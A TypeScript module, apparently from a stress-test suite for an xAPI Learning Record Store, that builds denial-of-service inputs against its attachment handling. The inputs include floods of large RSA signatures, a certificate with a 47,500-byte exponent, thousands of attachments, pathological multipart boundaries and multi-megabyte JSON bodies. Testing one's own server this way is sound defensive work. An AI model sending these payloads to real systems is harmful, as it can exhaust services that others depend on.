import { createHash, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { generate } from 'selfsigned';
import { oddNumber, rsaCertificate } from '../../support/rsa-certificate.ts';
import { jsonType, largeBody, list, multipart, multipartType, objectOf, statementText } from '../texts.ts';
import type { Attack, Context } from '../types.ts';

const signatureUsage = 'http://adlnet.gov/expapi/attachments/signature';
const binary = 'Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary';

function sha2(content: Buffer | string): string {
  return createHash('sha256').update(content).digest('hex');
}

function part(content: Buffer | string, hash = sha2(content)): { head: string; content: Buffer | string } {
  return { head: `${binary}\r\nX-Experience-API-Hash: ${hash}`, content };
}

function statementPart(text: string): { head: string; content: string } {
  return { head: 'Content-Type: application/json', content: text };
}

/** Describes attached data. */
function entry(content: Buffer | string, usage: string, hash = sha2(content)): string {
  return `{"usageType":"${usage}","display":{"en":"a"},"contentType":"application/octet-stream","length":${content.length},"sha2":"${hash}"}`;
}

function signed(payload: string, key: KeyObject, header: string): string {
  const text = `${Buffer.from(header).toString('base64url')}.${Buffer.from(payload).toString('base64url')}`;
  return `${text}.${sign('sha256', Buffer.from(text), key).toString('base64url')}`;
}

function send(context: Context, body: Buffer) {
  return context.client.send({ method: 'POST', path: '/xapi/statements', headers: multipartType, body });
}

async function equalSignatures(context: Context): Promise<void> {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  // As many values as one statement may have.
  const extensions = objectOf(7_000, (index) => `"http://x.org/${index}":[1,2,3,{"a":"b"}]`);
  const text = statementText({ result: `{"extensions":${extensions}}` });
  const content = signed(text, privateKey, '{"alg":"RS256"}');
  const attachments = `[${list(200, () => entry(content, signatureUsage))}]`;
  const body = multipart([
    statementPart(`${text.slice(0, -1)},"attachments":${attachments}}`),
    part(content),
  ]);
  await context.parallel(context.amount(6), 2, () => send(context, body));
}

/** As many as a body has room for, each with nearly 10,000 values to parse and compare. */
async function largeSignatures(context: Context): Promise<void> {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const extensions = `{"http://x.org/e":[${list(9_000, () => '{}')}]}`;
  const text = statementText({ result: `{"extensions":${extensions}}` });
  const contents = Array.from({ length: context.amount(260) }, (_, index) =>
    signed(text, privateKey, `{"alg":"RS256","kid":"${index}"}`),
  );
  const attachments = `"attachments":[${list(contents.length, (index) => entry(contents[index] ?? '', signatureUsage))}]`;
  const planned = `{"objectType":"SubStatement",${text.slice(1, -1)},${attachments}}`;
  for (const statement of [`${text.slice(0, -1)},${attachments}}`, statementText({ object: planned })]) {
    const body = multipart([statementPart(statement), ...contents.map((content) => part(content))]);
    await context.parallel(context.amount(8), 4, () => send(context, body));
  }
}

async function distinctSignatures(context: Context): Promise<void> {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 4096 });
  const { cert } = await generate([{ name: 'commonName', value: 'signer' }], { keySize: 4096 });
  const certificate = cert.replace(/-----[A-Z ]+-----|\s/g, '');
  const text = statementText({ result: `{"response":"${'x'.repeat(2_000)}"}` });
  const contents = Array.from({ length: context.amount(900) }, (_, index) =>
    signed(text, privateKey, `{"alg":"RS256","kid":"${index}","x5c":["${certificate}"]}`),
  );
  const unverified = contents.map((content, index) =>
    index % 2 === 0 ? content : signed(text, privateKey, `{"alg":"RS256","kid":"${index}"}`),
  );
  for (const all of [unverified.filter((_, index) => index % 2 === 1), contents]) {
    const attachments = `[${list(all.length, (index) => entry(all[index] ?? '', signatureUsage))}]`;
    const body = multipart([
      statementPart(`${text.slice(0, -1)},"attachments":${attachments}}`),
      ...all.map((content) => part(content)),
    ]);
    await context.parallel(context.amount(3), 2, () => send(context, body));
  }
}

/** Each within the 64 KiB of a header, and refused by the length of its key. */
async function longExponents(context: Context): Promise<void> {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const certificate = rsaCertificate(oddNumber(256), oddNumber(47_500));
  const content = signed(statementText(), privateKey, `{"alg":"RS256","x5c":["${certificate}"]}`);
  const attachments = `[${entry(content, signatureUsage)}]`;
  const body = multipart([statementPart(statementText({ attachments })), part(content)]);
  await context.parallel(context.amount(400), 4, () => send(context, body));
}

async function manyParts(context: Context): Promise<void> {
  const contents = Array.from({ length: context.amount(990) }, (_, index) => `content ${index}`);
  const hashes = contents.map((content) => sha2(content).toUpperCase());
  const attachments = `[${list(contents.length, (index) => entry(contents[index] ?? '', 'http://x.org/u', hashes[index]))}]`;
  const verb = '{"id":"https://attacker.example/verbs/attached"}';
  const body = multipart([
    statementPart(statementText({ verb, attachments })),
    ...contents.map((content, index) => part(content, hashes[index])),
  ]);
  await context.parallel(context.amount(8), 2, () => send(context, body));
}

async function readParts(context: Context): Promise<void> {
  const verb = encodeURIComponent('https://attacker.example/verbs/attached');
  await context.parallel(context.amount(40), 4, () =>
    context.client.send({ path: `/xapi/statements?attachments=true&limit=50&verb=${verb}` }),
  );
}

/** Bodies that make the search for the boundary hard. */
const mazes: Readonly<Record<string, { readonly type: string; readonly body: () => Buffer }>> = {
  dashes: {
    type: `multipart/mixed; boundary=${'-'.repeat(70)}`,
    body: () => Buffer.alloc(largeBody, '-'),
  },
  'dashes and blanks': {
    type: `multipart/mixed; boundary=${'-'.repeat(10)}`,
    body: () => Buffer.from(`\r\n${'-'.repeat(12)}${' '.repeat(3_000)}`.repeat(3_200)),
  },
  'one long run of blanks': {
    type: 'multipart/mixed; boundary=b',
    body: () => Buffer.from(`--b${' '.repeat(9_000_000)}x`),
  },
  'almost the boundary': {
    type: `multipart/mixed; boundary=${'a'.repeat(69)}b`,
    body: () => Buffer.from(`\r\n--${'a'.repeat(69)}`.repeat(120_000)),
  },
  'only newlines': { type: 'multipart/mixed; boundary=b', body: () => Buffer.alloc(largeBody, '\r\n') },
  'many empty parts': {
    type: 'multipart/mixed; boundary=b',
    body: () => Buffer.from(`${'--b\r\n\r\n\r\n'.repeat(800_000)}--b--`),
  },
  'endless part headers': {
    type: 'multipart/mixed; boundary=b',
    body: () => Buffer.from(`--b\r\n${'A: b\r\n'.repeat(1_500_000)}\r\n\r\n--b--`),
  },
  'folded part headers': {
    type: 'multipart/mixed; boundary=b',
    body: () => Buffer.from(`--b\r\nA: b${'\r\n \t \t'.repeat(1_600_000)}\r\n\r\n--b--`),
  },
};

async function wander(context: Context): Promise<void> {
  for (const { type, body } of Object.values(mazes)) {
    const bytes = body();
    await context.parallel(context.amount(4), 2, () =>
      context.client.send({
        method: 'POST',
        path: '/xapi/statements',
        headers: { 'Content-Type': type },
        body: bytes,
      }),
    );
  }
}

/** Bodies as large as a request may be, of what no announcement has. */
const announcements: readonly (() => string)[] = [
  () => `{"x":[${list(3_200_000, () => '[]')}]}`,
  () => `{${list(800_000, (index) => `"${index.toString(36)}":0`)}}`,
  () => `{"x":[${list(2_400_000, () => '1.0')}]}`,
];

async function announce(context: Context): Promise<void> {
  for (const body of announcements) {
    const bytes = Buffer.from(body());
    await context.parallel(context.amount(8), 2, () =>
      context.client.send({ method: 'POST', path: '/attachments', headers: jsonType, body: bytes }),
    );
  }
}

export const attachmentAttacks: readonly Attack[] = [
  {
    name: 'equal-signatures',
    area: 'attachments',
    threat: 'a signature that 200 entries of a large statement refer to',
    run: equalSignatures,
  },
  {
    name: 'distinct-signatures',
    area: 'attachments',
    threat: '900 different signatures with certificates of 4096 bits in a request',
    long: true,
    run: distinctSignatures,
  },
  {
    name: 'large-signatures',
    area: 'attachments',
    threat: '260 different signatures of a large statement, or of a SubStatement, in a request',
    run: largeSignatures,
  },
  {
    name: 'long-exponents',
    area: 'attachments',
    threat: 'signatures with a certificate whose public exponent has 47,500 bytes',
    provokes: 400,
    run: longExponents,
  },
  {
    name: 'many-attachments',
    area: 'attachments',
    threat: '990 attachments in a statement, hashes in upper case',
    run: manyParts,
  },
  {
    name: 'pages-with-attachments',
    area: 'attachments',
    threat: 'pages of statements with 990 attachments each, hashes in upper case',
    prepare: manyParts,
    run: readParts,
  },
  {
    name: 'boundary-mazes',
    area: 'attachments',
    threat:
      'multipart bodies of 9.9 MB: boundaries of dashes, almost boundaries, empty parts, endless part headers',
    run: wander,
  },
  {
    name: 'huge-announcements',
    area: 'attachments',
    threat: 'uploads are announced by JSON of 9.6 MB: arrays, properties, numbers',
    provokes: 413,
    // Nobody calls the bucket.
    settings: {
      LRS_ATTACHMENT_BUCKET: 'bucket',
      LRS_ATTACHMENT_ENDPOINT: 'http://127.0.0.1:9',
      AWS_ACCESS_KEY_ID: 'key',
      AWS_SECRET_ACCESS_KEY: 'secret',
    },
    run: announce,
  },
];
